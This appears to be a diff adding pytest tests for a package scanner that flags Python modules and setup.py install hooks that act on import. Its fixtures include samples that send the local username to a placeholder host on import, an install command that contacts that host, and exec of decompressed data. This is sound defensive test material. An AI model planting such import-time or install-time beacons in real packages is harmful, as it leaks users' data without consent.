@@ -1,0 +1,75 @@
+"""What a module does by being imported, and what it merely defines."""
+
+import pytest
+
+from scanner.signals.glance import may_act
+from scanner.signals.reach import reached
+from tests.scanner.signals.built import SDIST, WHEEL, fired, sdist, wheel
+
+SENDING = b"""
+import getpass as g
+from urllib import request as rq
+
+
+def _beat():
+    rq.urlopen("https://c.example.invalid/", data=g.getuser().encode())
+"""
+ACTING = {
+    "at once": SENDING + b"\n_beat()\n",
+    "in a block": SENDING + b"\ntry:\n    _beat()\nexcept OSError:\n    pass\n",
+    "in a thread": SENDING + b"\nimport threading\nthreading.Thread(target=_beat, daemon=True).start()\n",
+    "by a class": SENDING + b"\nclass _Beat:\n    def __init__(self):\n        _beat()\n\n_Beat()\n",
+    "by a method": SENDING + b"\nclass Beat:\n    def go(self):\n        _beat()\n\nBeat().go()\n",
+    "at exit": SENDING + b"\nimport atexit\natexit.register(_beat)\n",
+}
+IDLE = {
+    "a function": SENDING,
+    "a program": SENDING + b"\nif __name__ == '__main__':\n    _beat()\n",
+    "a method of that name": SENDING + b"\nclass Beat:\n    def get(self):\n        _beat()\n\nvalue = {}.get('x')\n",
+    "a session": b"import requests\nsession = requests.Session()\nsession.headers['a'] = 'b'\n",
+    "a name in a list": SENDING + b"\n__all__ = ['_beat']\nHANDLERS = {'beat': _beat}\n",
+    "a decorator": b"import functools, requests\n\n@functools.cache\ndef page():\n    return requests.get('https://x.example.org/')\n",
+}
+
+
+@pytest.mark.parametrize("source", ACTING.values(), ids=ACTING)
+def test_a_module_that_sends_who_runs_it_on_import_fires(source: bytes) -> None:
+    assert may_act(source)
+    assert "import-sends-local-data" in fired(WHEEL, wheel({"tidetables/__init__.py": source}))
+
+
+@pytest.mark.parametrize("source", IDLE.values(), ids=IDLE)
+def test_a_module_that_waits_until_it_is_asked_fires_nothing(source: bytes) -> None:
+    assert not any(name.startswith("import-") for name in fired(WHEEL, wheel({"tidetables/__init__.py": source})))
+
+
+def test_programs_and_made_texts_are_told_apart_from_the_network() -> None:
+    starts = b"import subprocess\nsubprocess.run(['id'])\n"
+    assert "import-starts-program" in fired(WHEEL, wheel({"tidetables/__init__.py": starts}))
+    made = b"import zlib\nexec(zlib.decompress(b'x'))\n"
+    assert "import-runs-made-text" in fired(WHEEL, wheel({"tidetables/__init__.py": made}))
+    template = b"for n in 'ab':\n    exec(f'{n} = 1')\n"
+    assert "import-runs-made-text" not in fired(WHEEL, wheel({"tidetables/__init__.py": template}))
+
+
+def test_an_install_command_that_talks_fires_whatever_its_library_is_called() -> None:
+    setup = b"""
+from setuptools import setup
+from setuptools.command.install import install
+import requests as r
+
+
+class Install(install):
+    def run(self):
+        r.get("https://c.example.invalid/")
+
+
+setup(cmdclass={"install": Install})
+"""
+    assert "install-talks-to-network" in fired(SDIST, sdist({"setup.py": setup}))
+
+
+@pytest.mark.parametrize("source", [b"\0", b"def (", b"(" * 5000, b"x = " + b"-" * 100_000 + b"1", b"\xff\xfe"])
+def test_what_is_no_python_is_left_alone(source: bytes) -> None:
+    reached(source)
+    assert not may_act(source)
